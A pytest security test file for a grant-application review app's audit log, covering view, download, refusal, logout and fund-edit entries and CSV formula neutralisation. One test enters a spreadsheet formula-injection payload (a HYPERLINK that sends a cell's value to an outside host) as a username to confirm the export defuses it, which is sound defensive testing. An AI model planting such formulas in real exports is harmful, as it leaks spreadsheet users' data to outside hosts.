"""Issue 12 item 8: the audit log has one line per opening, per download, per refusal and per
change (with its object id), and its CSV is formula-neutralised.

Replays: four .docx downloads, a refused access to another fund's application, a refused admin
page, viewing the audit log and logging out left no line; every rerun counted as a view; a fund
edit was logged without the fund id; a username like `=HYPERLINK(…)` came out as a live formula."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

from sqlalchemy import select

from steunwijzer import auth, review
from steunwijzer.i18n import gettext_for
from steunwijzer.models import Decision
from steunwijzer.store import AuditRow
from tests.security.conftest import log_in, new_session

nl = gettext_for("nl")
REVIEW = "pages/6_officer_review.py"


def lines(db, actor: str) -> list[tuple[str, int | None, dict]]:
    with db.session() as s:
        return [(r.action, r.application_id, r.detail) for r in s.scalars(select(AuditRow).where(AuditRow.actor == actor).order_by(AuditRow.id))]


def actions(db, actor: str) -> list[str]:
    return [a for a, _, _ in lines(db, actor)]


def test_one_view_line_per_opening_not_per_rerun(app_db, make_officer, client_address, submitted_app):
    app_id, _ = submitted_app()
    name = make_officer()
    at = log_in(REVIEW, name, state={"review_id": app_id})
    for _ in range(5):
        at.run()  # clicks inside the page: tabs, the number field, a question being typed
    assert actions(app_db, name).count("application.view") == 1
    at.switch_page("pages/5_officer_queue.py").run()
    at.switch_page(REVIEW).run()  # opening it again is a new line
    assert [(a, i) for a, i, _ in lines(app_db, name) if a == "application.view"] == [("application.view", app_id)] * 2


def test_every_download_is_a_line(app_db, make_officer, client_address, submitted_app, downloads):
    app_id, _ = submitted_app()
    name = make_officer()
    with app_db.session() as s:
        review.decide(s, auth.get_officer(s, name), app_id,
                      Decision(outcome="grant", amount_eur=Decimal("900"), payment="advance", report_tier="story"))
    at = log_in(REVIEW, name, state={"review_id": app_id})
    assert not at.exception
    for label in (nl("Download the application as Word file"), nl("Official decision letter ({language})").format(language="Nederlands"),
                  nl("Download the report as Word file")):
        assert downloads[label]()[:2] == b"PK"
    at.switch_page("pages/5_officer_queue.py").run()
    downloads["CSV"]()
    documents = [(d["document"], i) for a, i, d in lines(app_db, name) if a == "application.download"]
    assert documents == [("application", app_id), ("letter", app_id), ("report", app_id)]
    assert "applications.export_csv" in actions(app_db, name)


def test_refusals_are_lines(app_db, make_officer, client_address, submitted_app):
    app_id, _ = submitted_app("initiatievenfonds-voorbeeld")
    name = make_officer(fund_ids=["some-other-fund"])
    at = log_in(REVIEW, name, state={"review_id": app_id})
    assert at.error[0].value == nl("This application does not exist or is not yours to see.")
    at.switch_page("pages/8_officer_admin.py").run()
    assert at.error[0].value == nl("Only administrators can open this page.")
    refused = [(a, i) for a, i, _ in lines(app_db, name) if a.endswith("refused")]
    assert refused == [("application.refused", app_id), ("page.refused", None)]


def test_viewing_the_log_and_logging_out_are_lines(app_db, make_officer, client_address):
    name = make_officer(admin=True)
    at = log_in("pages/8_officer_admin.py", name)
    at.run()
    assert actions(app_db, name).count("audit.view") == 1
    at.button(key="_logout").click().run()
    assert actions(app_db, name)[-1] == "officer.logout"


def test_a_fund_edit_names_the_fund(app_db, make_officer, client_address):
    name = make_officer(admin=True)
    at = log_in("pages/7_officer_catalogue.py", name)
    fund_id = at.selectbox[0].value  # the fund on screen ("Change one fund")
    [b for b in at.button if b.label == nl("Save this fund")][0].click().run()
    assert ("funds.edit", {"count": "1", "funds": fund_id}) in [(a, d) for a, _, d in lines(app_db, name)]


def test_the_audit_csv_has_no_live_formulas(app_db, make_officer, client_address, downloads):
    formula = '=HYPERLINK("http://example.org/?"&A1,"Klik")'
    at = new_session("pages/5_officer_queue.py")
    at.text_input[0].input(formula[:64])
    at.text_input[1].input("whatever password")
    at.button[0].click().run()
    name = make_officer(admin=True)
    log_in("pages/8_officer_admin.py", name)
    text = downloads[nl("Download the audit log as CSV")]()
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert any(c.lower().startswith("'=hyperlink(") for c in cells), "the failed login is in the log, defused"
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
